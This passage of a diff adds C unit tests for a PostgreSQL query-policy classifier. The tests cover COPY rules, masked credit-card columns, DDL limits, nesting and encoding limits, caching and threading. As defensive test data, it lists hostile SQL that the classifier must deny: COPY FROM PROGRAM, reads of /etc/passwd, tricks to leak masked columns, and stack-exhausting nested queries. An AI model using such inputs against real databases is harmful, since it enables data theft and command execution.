+	const struct policy_rule *crs[] = { &cr };
+	static char *ws[] = { "read", "write" };   /* classes never grant copy */
+	struct policy_rule wr = { .target = "db", .allow = { .present = true,
+		.statements = { ws, 2 } } };
+	const struct policy_rule *wrs[] = { &wr };
+	struct pgc_result r;
+
+	r = judge("COPY orders TO STDOUT");
+	CHECK(r.verdict == PGC_DENY && r.copy_out);
+	r = judge_rules("COPY orders TO STDOUT", wrs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("COPY orders TO STDOUT WITH (FORMAT csv)", crs, 1);
+	CHECK(r.verdict == PGC_ALLOW && r.copy_out && !r.copy_in);
+	CHECK_STR(r.tag, "copy");
+	r = judge_rules("COPY orders FROM STDIN", crs, 1);
+	CHECK(r.verdict == PGC_ALLOW && r.copy_in && r.cls == PGC_WRITE);
+	r = judge_rules("COPY (SELECT id, total FROM orders) TO STDOUT", crs, 1);
+	CHECK(r.verdict == PGC_ALLOW);
+	r = judge_rules("COPY customers TO STDOUT", crs, 1);
+	CHECK(r.verdict == PGC_DENY && strstr(r.reason, "masked"));
+	r = judge_rules("COPY customers (id) TO STDOUT", crs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("COPY customers FROM STDIN", crs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("COPY (SELECT cc FROM customers) TO STDOUT", crs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("COPY (SELECT id FROM customers) TO STDOUT", crs, 1);
+	CHECK(r.verdict == PGC_ALLOW);
+	r = judge_rules("COPY secrets TO STDOUT", crs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("COPY orders TO '/tmp/x'", crs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("COPY orders FROM '/etc/passwd'", crs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("COPY orders FROM PROGRAM 'id'", crs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("COPY (DELETE FROM orders RETURNING *) TO STDOUT", crs, 1);
+	CHECK(r.verdict == PGC_DENY);
+}
+
+/* ---- masked columns ---- */
+
+static void test_masks(void)
+{
+	/* plain outputs, through aliases, subqueries and CTEs */
+	EXPECT("SELECT email, cc FROM customers", PGC_ALLOW);
+	EXPECT("SELECT c.cc, c.email AS e FROM customers c WHERE c.id = 1", PGC_ALLOW);
+	EXPECT("SELECT public.customers.cc FROM customers", PGC_ALLOW);
+	EXPECT("SELECT c.* FROM customers c", PGC_ALLOW);
+	EXPECT("SELECT x.cc FROM (SELECT cc FROM customers) x", PGC_ALLOW);
+	EXPECT("WITH c AS (SELECT cc, id FROM customers) SELECT cc FROM c WHERE id = 1", PGC_ALLOW);
+	EXPECT("SELECT count(*) FROM customers", PGC_ALLOW);
+	EXPECT("SELECT id FROM customers ORDER BY 1", PGC_ALLOW);
+	EXPECT("SELECT id, cc FROM customers ORDER BY 1", PGC_ALLOW);
+	EXPECT("SELECT * FROM (SELECT * FROM customers) x WHERE x.id = 1", PGC_ALLOW);
+	EXPECT("WITH c AS (SELECT * FROM customers) SELECT id, cc FROM c WHERE id = 1", PGC_ALLOW);
+	EXPECT("SELECT j.id FROM (customers c JOIN orders o ON true) AS j WHERE j.id = 1", PGC_ALLOW);
+	EXPECT("SELECT c.id, o.total FROM customers c JOIN orders o ON o.customer_id = c.id",
+	       PGC_ALLOW);
+	EXPECT("SELECT cc FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)",
+	       PGC_ALLOW);
+	/* every other use */
+	EXPECT("SELECT id FROM customers WHERE cc = '4111'", PGC_DENY);
+	EXPECT("SELECT id FROM customers WHERE cc LIKE '4%'", PGC_DENY);
+	EXPECT("SELECT id FROM customers c WHERE c.email IS NULL", PGC_DENY);
+	EXPECT("SELECT id FROM customers WHERE public.customers.cc = 'x'", PGC_DENY);
+	EXPECT("SELECT * FROM customers ORDER BY cc", PGC_DENY);
+	EXPECT("SELECT cc AS x FROM customers ORDER BY x", PGC_DENY);
+	EXPECT("SELECT cc FROM customers ORDER BY 1", PGC_DENY);
+	EXPECT("SELECT id, cc FROM customers ORDER BY 2 DESC", PGC_DENY);
+	EXPECT("SELECT * FROM customers ORDER BY 2", PGC_DENY);
+	EXPECT("SELECT cc FROM customers GROUP BY cc", PGC_DENY);
+	EXPECT("SELECT count(*) FROM customers GROUP BY email", PGC_DENY);
+	EXPECT("SELECT cc FROM customers GROUP BY 1", PGC_DENY);
+	EXPECT("SELECT DISTINCT cc FROM customers", PGC_DENY);
+	EXPECT("SELECT DISTINCT ON (cc) id FROM customers", PGC_DENY);
+	EXPECT("SELECT count(cc) FROM customers", PGC_DENY);
+	EXPECT("SELECT upper(email) FROM customers", PGC_DENY);
+	EXPECT("SELECT cc || '' FROM customers", PGC_DENY);
+	EXPECT("SELECT length(cc) FROM customers", PGC_DENY);
+	EXPECT("SELECT string_agg(cc, ',') FROM customers", PGC_DENY);
+	EXPECT("SELECT (SELECT cc FROM customers LIMIT 1)", PGC_DENY);
+	EXPECT("SELECT id FROM orders WHERE customer_id IN (SELECT cc::int FROM customers)", PGC_DENY);
+	EXPECT("SELECT id FROM orders WHERE customer_id IN (SELECT cc FROM customers)", PGC_DENY);
+	EXPECT("SELECT c.id FROM customers c JOIN orders o ON o.id::text = c.cc", PGC_DENY);
+	EXPECT("SELECT id FROM customers JOIN orders USING (cc)", PGC_DENY);
+	EXPECT("SELECT id FROM customers NATURAL JOIN orders", PGC_DENY);
+	EXPECT("SELECT sum(id) OVER (PARTITION BY cc) FROM customers", PGC_DENY);
+	EXPECT("SELECT id FROM customers HAVING max(cc) > ''", PGC_DENY);
+	EXPECT("SELECT cc FROM customers UNION SELECT cc FROM customers", PGC_DENY);
+	EXPECT("SELECT * FROM customers UNION ALL SELECT * FROM customers", PGC_DENY);
+	/* whole-row references */
+	EXPECT("SELECT c FROM customers c", PGC_DENY);
+	EXPECT("SELECT customers FROM customers", PGC_DENY);
+	EXPECT("SELECT to_json(c) FROM customers c", PGC_DENY);
+	EXPECT("SELECT ROW(c.*) FROM customers c", PGC_DENY);
+	EXPECT("SELECT (c).cc FROM customers c", PGC_DENY);
+	EXPECT("SELECT to_jsonb(c.*) FROM customers c", PGC_DENY);
+	EXPECT("SELECT id FROM customers c WHERE c IS NOT NULL", PGC_DENY);
+	/* lineage through derived tables */
+	EXPECT("SELECT * FROM (SELECT cc FROM customers) x WHERE x.cc = '1'", PGC_DENY);
+	EXPECT("SELECT * FROM (SELECT * FROM customers) x WHERE x.cc = '1'", PGC_DENY);
+	EXPECT("SELECT * FROM (SELECT c.* FROM customers c) x WHERE email = '1'", PGC_DENY);
+	EXPECT("SELECT * FROM (SELECT * FROM (SELECT * FROM customers) y) x WHERE x.cc = '1'",
+	       PGC_DENY);
+	EXPECT("SELECT x FROM (SELECT * FROM customers) x", PGC_DENY);
+	EXPECT("SELECT * FROM (SELECT cc AS y FROM customers) x WHERE y = '1'", PGC_DENY);
+	EXPECT("WITH c AS (SELECT cc FROM customers) SELECT upper(cc) FROM c", PGC_DENY);
+	EXPECT("WITH c AS (SELECT * FROM customers) SELECT id FROM c WHERE email = 'x'", PGC_DENY);
+	EXPECT("WITH c(a, b, z) AS (SELECT * FROM customers) SELECT id FROM c WHERE z = 'x'",
+	       PGC_DENY);
+	EXPECT("SELECT id FROM customers AS c(a, b, x) WHERE x = '1'", PGC_DENY);
+	EXPECT("SELECT * FROM (SELECT cc FROM customers) AS x(y) WHERE y = '1'", PGC_DENY);
+	EXPECT("SELECT j.cc FROM (customers c JOIN orders o ON true) AS j WHERE j.cc = 'x'", PGC_DENY);
+	/* not a result output */
+	EXPECT("CREATE VIEW v AS SELECT cc FROM customers", PGC_DENY);
+	{
+		struct pgc_result r;
+
+		r = judge_rules("INSERT INTO orders (id) SELECT cc::int FROM customers", rw, 1);
+		CHECK(r.verdict == PGC_DENY);
+		r = judge_rules("INSERT INTO orders SELECT * FROM customers", rw, 1);
+		CHECK(r.verdict == PGC_DENY);
+		r = judge_rules("UPDATE customers SET email = 'x' RETURNING cc", rw, 1);
+		CHECK(r.verdict == PGC_DENY);
+		r = judge_rules("DELETE FROM customers RETURNING *", rw, 1);
+		CHECK(r.verdict == PGC_DENY);
+		r = judge_rules("UPDATE customers SET email = cc", rw, 1);
+		CHECK(r.verdict == PGC_DENY);
+		r = judge_rules("UPDATE customers SET email = 'x' WHERE id = 1", rw, 1);
+		CHECK(r.verdict == PGC_ALLOW);          /* writing a masked column is not reading it */
+		r = judge_rules("DELETE FROM customers WHERE cc = '4111'", rw, 1);
+		CHECK(r.verdict == PGC_DENY);
+		r = judge_rules("WITH d AS (DELETE FROM customers RETURNING cc) SELECT * FROM d", rw, 1);
+		CHECK(r.verdict == PGC_DENY);
+	}
+	/* no predicate: nothing is masked */
+	{
+		struct pgc_ctx c2 = ctx;
+		struct pgc_result r;
+
+		c2.column_masked = NULL;
+		judge_with(&c2, "SELECT upper(cc) FROM customers", 31, ro, 1, &r);
+		CHECK(r.verdict == PGC_ALLOW);
+	}
+}
+
+/* ---- rules: review, DDL tables, combine, names ---- */
+
+static void test_rules(void)
+{
+	static char *us[] = { "update" };
+	static char *ot[] = { "public.orders" };
+	struct policy_rule rv = { .target = "db", .role = "rev",
+		.allow = { .present = true, .statements = { ro_stmts, 1 }, .tables = { ro_tables, 2 } },
+		.review = { .present = true, .statements = { us, 1 }, .tables = { ot, 1 } } };
+	const struct policy_rule *rvs[] = { &rv };
+	static char *ds[] = { "ddl" };
+	struct policy_rule dr = { .target = "db",
+		.allow = { .present = true, .statements = { ds, 1 }, .tables = { ot, 1 } } };
+	const struct policy_rule *drs[] = { &dr };
+	static char *star[] = { "public.*" };
+	struct policy_rule sr = { .target = "db",
+		.allow = { .present = true, .statements = { ro_stmts, 1 }, .tables = { star, 1 } } };
+	const struct policy_rule *srs[] = { &sr };
+	static char *unq[] = { "orders" };
+	struct policy_rule ur = { .target = "db",
+		.allow = { .present = true, .statements = { ro_stmts, 1 }, .tables = { unq, 1 } } };
+	const struct policy_rule *urs[] = { &ur };
+	struct pgc_result r, u;
+
+	r = judge_rules("UPDATE orders SET total = 0", rvs, 1);
+	CHECK(r.verdict == PGC_REVIEW && r.rule == &rv);
+	r = judge_rules("SELECT 1; UPDATE orders SET total = 0", rvs, 1);
+	CHECK(r.verdict == PGC_REVIEW);
+	r = judge_rules("UPDATE customers SET email = 'x'", rvs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("SELECT * FROM orders", rvs, 1);
+	CHECK(r.verdict == PGC_ALLOW && r.rule == &rv);
+	r = judge_rules("SELECT * FROM orders", NULL, 0);
+	CHECK(r.verdict == PGC_DENY && r.rule == NULL);
+	{
+		const struct policy_rule *holes[] = { NULL, &ro_rule, NULL };
+
+		r = judge_rules("SELECT * FROM orders", holes, 3);
+		CHECK(r.verdict == PGC_ALLOW && r.rule == &ro_rule);
+		r = judge_rules("SELECT * FROM secrets", holes, 3);
+		CHECK(r.verdict == PGC_DENY && strstr(r.reason, "public.secrets"));
+	}
+	/* DDL under a tables: list: only where the walk sees the objects */
+	r = judge_rules("DROP TABLE orders", drs, 1);
+	CHECK(r.verdict == PGC_ALLOW && r.cls == PGC_DDL);
+	CHECK_STR(r.tag, "drop_table");
+	r = judge_rules("DROP TABLE orders, secrets", drs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("CREATE INDEX ON orders (id)", drs, 1);
+	CHECK(r.verdict == PGC_ALLOW);
+	r = judge_rules("ALTER TABLE orders ADD COLUMN x int", drs, 1);
+	CHECK(r.verdict == PGC_ALLOW);
+	r = judge_rules("DROP FUNCTION f()", drs, 1);
+	CHECK(r.verdict == PGC_DENY && strstr(r.reason, "cannot see"));
+	r = judge_rules("COMMENT ON TABLE secrets IS 'x'", drs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("CREATE SCHEMA s CREATE TABLE secrets2 (id int)", drs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	/* DDL never touches a table with masked columns (renaming cc would
+	 * undo the column checks), whatever the rule grants */
+	{
+		static char *all[] = { "ddl", "admin" };
+		struct policy_rule ar = { .target = "db", .allow = { .present = true,
+			.statements = { all, 2 } } };
+		const struct policy_rule *ars[] = { &ar };
+
+		r = judge_rules("ALTER TABLE customers RENAME COLUMN cc TO x", ars, 1);
+		CHECK(r.verdict == PGC_DENY && strstr(r.reason, "masked"));
+		r = judge_rules("CREATE TRIGGER t AFTER INSERT ON customers FOR EACH ROW "
+				"EXECUTE FUNCTION f()", ars, 1);
+		CHECK(r.verdict == PGC_DENY);
+		r = judge_rules("DROP TABLE customers", ars, 1);
+		CHECK(r.verdict == PGC_DENY);
+		r = judge_rules("CREATE VIEW v AS SELECT id FROM customers", ars, 1);
+		CHECK(r.verdict == PGC_DENY);
+		r = judge_rules("ALTER TABLE orders RENAME COLUMN total TO amount", ars, 1);
+		CHECK(r.verdict == PGC_ALLOW && r.cls == PGC_DDL);
+	}
+	r = judge_rules("GRANT SELECT ON orders TO x", drs, 1);
+	CHECK(r.verdict == PGC_DENY && r.cls == PGC_ADMIN);
+	/* table patterns */
+	r = judge_rules("SELECT * FROM secrets", srs, 1);
+	CHECK(r.verdict == PGC_ALLOW);
+	r = judge_rules("SELECT * FROM other.secrets", srs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("SELECT * FROM pg_class", srs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	r = judge_rules("SELECT * FROM orders", urs, 1);
+	CHECK(r.verdict == PGC_ALLOW);
+	r = judge_rules("SELECT * FROM other.orders", urs, 1);
+	CHECK(r.verdict == PGC_DENY);
+	/* combine: allow only if both; review if either */
+	r = judge_rules("SELECT * FROM orders", ro, 1);
+	u = judge_rules("SELECT * FROM orders", rvs, 1);
+	pgc_combine(&r, &u);
+	CHECK(r.verdict == PGC_ALLOW);
+	r = judge_rules("UPDATE orders SET total = 0", rvs, 1);
+	u = judge_rules("UPDATE orders SET total = 0", rw, 1);
+	pgc_combine(&r, &u);
+	CHECK(r.verdict == PGC_REVIEW);
+	r = judge_rules("UPDATE orders SET total = 0", rw, 1);
+	u = judge_rules("UPDATE orders SET total = 0", rvs, 1);
+	pgc_combine(&r, &u);
+	CHECK(r.verdict == PGC_REVIEW && r.rule == &rv);
+	r = judge_rules("UPDATE orders SET total = 0", rw, 1);
+	u = judge_rules("UPDATE orders SET total = 0", ro, 1);
+	pgc_combine(&r, &u);
+	CHECK(r.verdict == PGC_DENY && r.rule == NULL && strstr(r.reason, "user:"));
+	r = judge_rules("UPDATE orders SET total = 0", ro, 1);
+	u = judge_rules("UPDATE orders SET total = 0", rw, 1);
+	pgc_combine(&r, &u);
+	CHECK(r.verdict == PGC_DENY);
+	/* statement names for policy validation */
+	CHECK(pgc_statement_name_known("select"));
+	CHECK(pgc_statement_name_known("create_table"));
+	CHECK(pgc_statement_name_known("read"));
+	CHECK(pgc_statement_name_known("copy"));
+	CHECK(pgc_statement_name_known("select_for_update"));
+	CHECK(!pgc_statement_name_known("selekt"));
+	CHECK(!pgc_statement_name_known("do"));
+	CHECK(!pgc_statement_name_known("begin"));
+	CHECK_STR(pgc_class_name(PGC_DDL), "ddl");
+}
+
+/* policy_load.c accepts in statements: only what pgc_statement_name_known() does */
+static void test_policy_statements(void)
+{
+	static const char good[] = "version: 1\nagents: [{name: a}]\n"
+		"targets: [{name: db, protocol: postgres, address: 127.0.0.1:5432}]\n"
+		"roles: [{name: r, rules: [{target: db, allow: {statements: [select, read, "
+		"create_table, select_for_update, copy]}}]}]\n"
+		"bindings: [{role: r, agents: [a]}]\n";
+	static const char bad[] = "version: 1\nagents: [{name: a}]\n"
+		"targets: [{name: db, protocol: postgres, address: 127.0.0.1:5432}]\n"
+		"roles: [{name: r, rules: [{target: db, allow: {statements: [select, selekt]}}]}]\n"
+		"bindings: [{role: r, agents: [a]}]\n";
+	struct policy_errors errs = { .n = 0 };
+	struct policy *p;
+
+	p = policy_load_buffer("good.yaml", good, sizeof(good) - 1, &errs);
+	CHECK(p != NULL);
+	policy_free(p);
+	memset(&errs, 0, sizeof(errs));
+	p = policy_load_buffer("bad.yaml", bad, sizeof(bad) - 1, &errs);
+	CHECK(p == NULL && errs.n >= 1 && strstr(errs.e[0].msg, "selekt"));
+	policy_free(p);
+}
+
+/* ---- limits: length, nesting, encoding ---- */
+
+static char *repeat_sql(const char *head, const char *unit, size_t n, const char *mid,
+			const char *unit2, size_t n2, const char *tail)
+{
+	size_t len = strlen(head) + strlen(unit) * n + strlen(mid) + strlen(unit2) * n2 +
+		     strlen(tail) + 1;
+	char *s = malloc(len), *p = s;
+
+	if (!s)
+		abort();
+	p += sprintf(p, "%s", head);
+	for (size_t i = 0; i < n; i++)
+		p += sprintf(p, "%s", unit);
+	p += sprintf(p, "%s", mid);
+	for (size_t i = 0; i < n2; i++)
+		p += sprintf(p, "%s", unit2);
+	sprintf(p, "%s", tail);
+	return s;
+}
+
+static void test_limits(void)
+{
+	struct pgc_result r;
+	char *s;
+
+	/* long but fine: a wide IN list */
+	s = repeat_sql("SELECT id FROM orders WHERE id IN (0", ",1", 20000, "", "", 0, ")");
+	r = judge(s);
+	CHECK(r.verdict == PGC_ALLOW);
+	free(s);
+	/* past the limit */
+	s = repeat_sql("SELECT ", "1+", PGC_MAX_SQL / 2, "1", "", 0, "");
+	r = judge(s);
+	CHECK(r.verdict == PGC_DENY && strstr(r.reason, "longer"));
+	free(s);
+	/* deep parentheses: the parser gives up, a deny */
+	s = repeat_sql("SELECT ", "(", 20000, "1", ")", 20000, "");
+	r = judge(s);
+	CHECK(r.verdict == PGC_DENY);
+	free(s);
+	/* deep expressions and subqueries: denied or allowed, never a crash */
+	s = repeat_sql("SELECT ", "1+(", 3000, "1", ")", 3000, "");
+	r = judge(s);
+	CHECK(r.verdict == PGC_DENY);
+	free(s);
+	s = repeat_sql("SELECT * FROM ", "(SELECT * FROM ", 500, "orders", ") x", 500, "");
+	r = judge(s);
+	CHECK(r.verdict == PGC_DENY);
+	free(s);
+	s = repeat_sql("SELECT * FROM ", "(SELECT * FROM ", 20, "orders", ") x", 20, "");
+	r = judge(s);
+	CHECK(r.verdict == PGC_ALLOW);
+	free(s);
+	/* left-deep trees: libpg_query's JSON writer would overflow the stack */
+	s = repeat_sql("SELECT ", "1+", 4000, "1", "", 0, "");
+	r = judge(s);
+	CHECK(r.verdict == PGC_DENY);
+	free(s);
+	s = repeat_sql("SELECT ", "1+", 100000, "1", "", 0, "");
+	r = judge(s);
+	CHECK(r.verdict == PGC_DENY && strstr(r.reason, "nested too deeply"));
+	free(s);
+	s = repeat_sql("SELECT ", "1,1 UNION SELECT ", 5000, "1,1", "", 0, "");
+	r = judge(s);
+	CHECK(r.verdict == PGC_DENY && strstr(r.reason, "nested too deeply"));
+	free(s);
+	s = repeat_sql("SELECT ", "'x'::text::text::", 3000, "text", "", 0, "");
+	r = judge(s);
+	CHECK(r.verdict == PGC_DENY && strstr(r.reason, "nested too deeply"));
+	free(s);
+	/* past the pre-scan threshold: a lexer error is a parse error */
+	s = repeat_sql("SELECT 1", ", 1 /* c */ -- x\n", 1000, ", 'unterminated", "", 0, "");
+	r = judge(s);
+	CHECK(r.verdict == PGC_DENY && strstr(r.reason, "parse error"));
+	free(s);
+	s = repeat_sql("SELECT id FROM orders WHERE id IN (1", ", /* c */ $1 -- x\n", 1000, ")",
+		       "", 0, "");
+	r = judge(s);
+	CHECK(r.verdict == PGC_ALLOW);
+	free(s);
+	/* long but flat: a bulk INSERT with casts and negative numbers */
+	s = repeat_sql("INSERT INTO orders (id, customer_id, total) VALUES (0, 0, 0)",
+		       ", (-1, 2, '3.5'::numeric)", 3000, "", "", 0, "");
+	r = judge_rules(s, rw, 1);
+	CHECK(r.verdict == PGC_ALLOW);
+	free(s);
+	/* many statements, many tables */
+	s = repeat_sql("", "SELECT 1;", 100, "", "", 0, "");
+	r = judge(s);
+	CHECK(r.verdict == PGC_DENY && strstr(r.reason, "statements"));
+	free(s);
+	{
+		char buf[4096];
+		size_t o = (size_t)snprintf(buf, sizeof(buf), "SELECT 1 FROM orders");
+
+		for (int i = 0; i < 40; i++)
+			o += (size_t)snprintf(buf + o, sizeof(buf) - o, ", t%d", i);
+		r = judge(buf);
+		CHECK(r.verdict == PGC_DENY && strstr(r.reason, "relations"));
+	}
+	/* encoding */
+	static const char bad1[] = "SELECT '\xc3\x28'";
+	static const char bad2[] = "SELECT '\xc0\xaf'";             /* overlong '/' */
+	static const char bad3[] = "SELECT '\xed\xa0\x80'";         /* surrogate */
+	static const char bad4[] = "SELECT '\xf4\x90\x80\x80'";     /* past U+10FFFF */
+	static const char bad5[] = "SELECT '\xe2\x82'";             /* truncated */
+	static const char good[] = "SELECT 'caf\xc3\xa9 \xf0\x9f\x98\x80'";
+	static const char nul[] = "SELECT 1\0";
+
+	judge_with(&ctx, bad1, sizeof(bad1) - 1, ro, 1, &r);
+	CHECK(r.verdict == PGC_DENY);
+	judge_with(&ctx, bad2, sizeof(bad2) - 1, ro, 1, &r);
+	CHECK(r.verdict == PGC_DENY);
+	judge_with(&ctx, bad3, sizeof(bad3) - 1, ro, 1, &r);
+	CHECK(r.verdict == PGC_DENY);
+	judge_with(&ctx, bad4, sizeof(bad4) - 1, ro, 1, &r);
+	CHECK(r.verdict == PGC_DENY);
+	judge_with(&ctx, bad5, sizeof(bad5) - 1, ro, 1, &r);
+	CHECK(r.verdict == PGC_DENY);
+	judge_with(&ctx, good, sizeof(good) - 1, ro, 1, &r);
+	CHECK(r.verdict == PGC_ALLOW);
+	judge_with(&ctx, nul, sizeof(nul) - 1, ro, 1, &r);
+	CHECK(r.verdict == PGC_DENY);
+	/* the text is exactly len bytes: no terminator needed */
+	judge_with(&ctx, "SELECT * FROM orders; DELETE FROM orders", 20, ro, 1, &r);
+	CHECK(r.verdict == PGC_ALLOW && r.nstmts == 1);
+}
+
+/* ---- the verdict cache ---- */
+
+static void test_cache(void)
+{
+	struct pgc_ctx c = ctx;
+	struct pgc_result r;
+	int calls = 0;
+	const char *q1 = "SELECT id, cc FROM customers WHERE id = 1";
+	const char *q2 = "SELECT id, cc FROM customers WHERE id = 99";
+
+	pgc_cache_flush();
+	c.policy_gen = 7;
+	c.arg = &calls;
+	judge_with(&c, q1, strlen(q1), ro, 1, &r);
+	CHECK(r.verdict == PGC_ALLOW && !r.cached);
+	calls = 0;
+	judge_with(&c, q1, strlen(q1), ro, 1, &r);
+	CHECK(r.verdict == PGC_ALLOW && r.cached && calls == 0 && r.rule == &ro_rule);
+	CHECK(r.ntables == 1 && has_table(&r, "public.customers"));
+	/* another constant: the normalized entry */
+	judge_with(&c, q2, strlen(q2), ro, 1, &r);
+	CHECK(r.verdict == PGC_ALLOW && r.cached && calls == 0);
+	/* denials are cached too, with their reason */
+	judge_with(&c, "SELECT * FROM secrets WHERE id = 1", 34, ro, 1, &r);
+	CHECK(r.verdict == PGC_DENY && !r.cached);
+	judge_with(&c, "SELECT * FROM secrets WHERE id = 2", 34, ro, 1, &r);
+	CHECK(r.verdict == PGC_DENY && r.cached && strstr(r.reason, "public.secrets"));
+	/* the key holds the generation, the rules, the settings */
+	c.policy_gen = 8;
+	judge_with(&c, q1, strlen(q1), ro, 1, &r);
+	CHECK(!r.cached);
+	judge_with(&c, q1, strlen(q1), rw, 1, &r);
+	CHECK(!r.cached && r.rule == &rw_rule);
+	c.settings = "DateStyle=ISO";
+	judge_with(&c, q1, strlen(q1), ro, 1, &r);
+	CHECK(!r.cached);
+	c.search_path = "app";
+	judge_with(&c, q1, strlen(q1), ro, 1, &r);
+	CHECK(!r.cached && r.verdict == PGC_DENY);
+	c.search_path = "public";
+	c.settings = NULL;
+	/* policy_gen 0: no cache */
+	c.policy_gen = 0;
+	judge_with(&c, q1, strlen(q1), ro, 1, &r);
+	judge_with(&c, q1, strlen(q1), ro, 1, &r);
+	CHECK(!r.cached);
+	c.policy_gen = 9;
+	/* positions: ORDER BY 1 and ORDER BY 2 normalize alike; never cached */
+	judge_with(&c, "SELECT id, cc FROM customers ORDER BY 1", 39, ro, 1, &r);
+	CHECK(r.verdict == PGC_ALLOW && !r.cached);
+	judge_with(&c, "SELECT id, cc FROM customers ORDER BY 2", 39, ro, 1, &r);
+	CHECK(r.verdict == PGC_DENY && !r.cached);
+	judge_with(&c, "SELECT id, cc FROM customers ORDER BY 1", 39, ro, 1, &r);
+	CHECK(r.verdict == PGC_ALLOW && !r.cached);
+	/* object-naming literals and utility statements are never cached */
+	judge_with(&c, "SELECT 'orders'::regclass", 25, ro, 1, &r);
+	judge_with(&c, "SELECT 'orders'::regclass", 25, ro, 1, &r);
+	CHECK(!r.cached);
+	judge_with(&c, "BEGIN", 5, ro, 1, &r);
+	judge_with(&c, "BEGIN", 5, ro, 1, &r);
+	CHECK(!r.cached && r.begins_tx);
+	/* many distinct texts: bounded, and still correct afterwards */
+	for (int i = 0; i < 3000; i++) {
+		char q[96];
+		int n = snprintf(q, sizeof(q), "SELECT id AS c%d FROM orders", i);
+
+		pgc_judge(&c, q, (size_t)n, ro, 1, &r);
+		CHECK(r.verdict == PGC_ALLOW);
+	}
+	judge_with(&c, "SELECT * FROM secrets WHERE id = 3", 34, ro, 1, &r);
+	CHECK(r.verdict == PGC_DENY);
+	pgc_cache_flush();
+}
+
+/* ---- threads: each has its own cache, freed when it exits ---- */
+
+static void *thread_main(void *arg)
+{
+	struct pgc_ctx c = ctx;
+	struct pgc_result r;
+	long bad = 0;
+
+	c.policy_gen = 11;
+	(void)arg;
+	for (int i = 0; i < 300; i++) {
+		char q[96];
+		int n = snprintf(q, sizeof(q), i % 2 ? "SELECT cc FROM customers WHERE id = %d" :
+			     "SELECT * FROM secrets WHERE id = %d", i % 7);
+
+		pgc_judge(&c, q, (size_t)n, ro, 1, &r);
+		bad += r.verdict != (i % 2 ? PGC_ALLOW : PGC_DENY);
+	}
+	return (void *)bad;
+}
+
+static void test_threads(void)
+{
+	pthread_t t[4];
+	void *bad;
+
+	for (int i = 0; i < 4; i++)
+		CHECK(pthread_create(&t[i], NULL, thread_main, NULL) == 0);
+	for (int i = 0; i < 4; i++) {
+		CHECK(pthread_join(t[i], &bad) == 0);
+		CHECK(bad == NULL);
+	}
+}
+
+int main(int argc, char **argv)
+{
+	if (argc == 3 && strcmp(argv[1], "--write-corpus") == 0)
+		unit_corpus_dir = argv[2];
+	RUN(test_sql_cases);
+	RUN(test_case_reasons);
+	RUN(test_protocol_cases);
+	RUN(test_lexing);
+	RUN(test_names);
+	RUN(test_functions);
+	RUN(test_statements);
+	RUN(test_transactions);
+	RUN(test_settings);
+	RUN(test_copy);
+	RUN(test_masks);
+	RUN(test_rules);
+	RUN(test_policy_statements);
+	RUN(test_limits);
+	RUN(test_cache);
+	RUN(test_threads);
+	pgc_cache_flush();
+	UNIT_DONE("pg_classify");
+}
